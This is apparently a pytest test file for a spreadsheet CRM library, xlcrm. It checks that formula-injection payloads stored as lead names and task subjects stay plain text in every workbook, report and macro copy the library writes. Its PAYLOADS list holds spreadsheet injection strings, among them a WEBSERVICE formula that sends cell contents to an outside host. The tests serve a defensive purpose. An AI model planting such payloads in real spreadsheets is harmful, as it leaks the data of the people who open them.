"""Data never becomes a formula: a lead named ``=WEBSERVICE(...)`` or a task subject starting
with ``+``, ``-``, ``@``, tab or CR stays text in every sheet xlcrm writes (the owned sheets,
the report workbook, the .xlsm copy and the sheets the Excel buttons write back)."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path

import pytest
from lxml import etree

import xlcrm
from xlcrm import generate_demo, macros
from xlcrm.macros import FileSheets
from xlcrm.sheets.workbook import write_new_workbook

from . import xlwings_double as xw
from ._helpers import TODAY

#: every way a text can start that a spreadsheet may run; each carries the marker PWN
PAYLOADS = ['=WEBSERVICE("http://x/?PWN"&A2)', "+PWN+1", "-PWN-1", "@SUM(PWN1)",
            "\t=PWN()", "\r=PWN()", "=HYPERLINK(\"http://x\",\"PWN\")", "external:PWN.exe"]
_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A demo workbook whose leads' names and tasks' subjects are the payloads, each with a
    task due tomorrow so it reaches the Agenda."""
    data = generate_demo("dealer", leads=80, seed=5, today=TODAY)
    leads, tasks = data.data["leads"], data.data["tasks"]
    for i, payload in enumerate(PAYLOADS):
        leads["first_name"][i] = payload
        leads["last_name"][-1 - i] = payload
        tasks["subject"][i] = payload
        tasks["record"][i] = leads["id"][i]
        tasks["due_date"][i] = TODAY + dt.timedelta(days=1)
        tasks["done"][i] = False
        tasks["done_date"][i] = None
        tasks["result"][i] = None
        data.data["activities"]["subject"][i] = payload
    path = tmp_path_factory.mktemp("hostile") / "crm.xlsx"
    return write_new_workbook(path, data.schema, data.data, options=data.options,
                              settings_rows=data.settings_rows)


def _formulas_and_texts(path: Path) -> tuple[list[str], str]:
    """Every formula of every sheet of ``path`` and all its text, as stored."""
    formulas, texts = [], []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if not re.fullmatch(r"xl/(worksheets/sheet\d+|sharedStrings)\.xml", name):
                continue
            root = etree.fromstring(zf.read(name))
            formulas += [f.text or "" for f in root.iter(_NS + "f")]
            texts += [t.text or "" for t in root.iter(_NS + "t")]
    return formulas, "\n".join(texts)


def test_no_payload_becomes_a_formula_in_any_sheet_or_file(hostile: Path, tmp_path: Path) -> None:
    book = tmp_path / "crm.xlsx"
    book.write_bytes(hostile.read_bytes())
    xlcrm.update(book, today=TODAY, backups=0)
    agenda = xlcrm.agenda(book, now=dt.datetime.combine(TODAY, dt.time(18)), backups=0)
    assert any("PWN" in str(v) for v in agenda.items["what"])  # the payloads reached it
    xlcrm.score(book, today=TODAY, backups=0)
    xlcrm.clean(book, today=TODAY, backups=0)
    report = xlcrm.report(book, tmp_path / "out", today=TODAY)
    made = xlcrm.macro_workbook(book, tmp_path / "crm.xlsm")
    files = [book, made.workbook, *[p for p in (tmp_path / "out").glob("*.xlsx")]]
    assert report and len(files) >= 3
    for path in files:
        formulas, texts = _formulas_and_texts(path)
        assert not [f for f in formulas if "PWN" in f], path.name
        if path in (book, made.workbook):  # the payloads are there, as text
            for payload in PAYLOADS:
                assert payload.strip() in texts, (path.name, payload)
    crm = xlcrm.load(book)
    assert "Agenda" in crm.sheet_names.values() or "agenda" in crm.sheet_names


def test_excel_buttons_write_payloads_as_text(hostile: Path) -> None:
    source = FileSheets(hostile)
    book = xw.Book.from_grids(hostile.name, {n: source.read(n) for n in source.sheet_names()})
    macros.weekly_update(book, today=TODAY)
    macros.agenda_tomorrow(book, now=dt.datetime.combine(TODAY, dt.time(18)))
    written = 0
    for sheet in book.sheets:
        for key in sheet.formulas:
            assert "PWN" not in str(sheet.cells.get(key)), (sheet.name, key)
        written += sum(1 for v in sheet.cells.values() if isinstance(v, str) and "PWN" in v)
    agenda_cells = [v for v in book.sheets["Agenda"].cells.values() if isinstance(v, str)]
    assert '=WEBSERVICE("http://x/?PWN"&A2)' in agenda_cells  # text, exactly as typed
    assert written
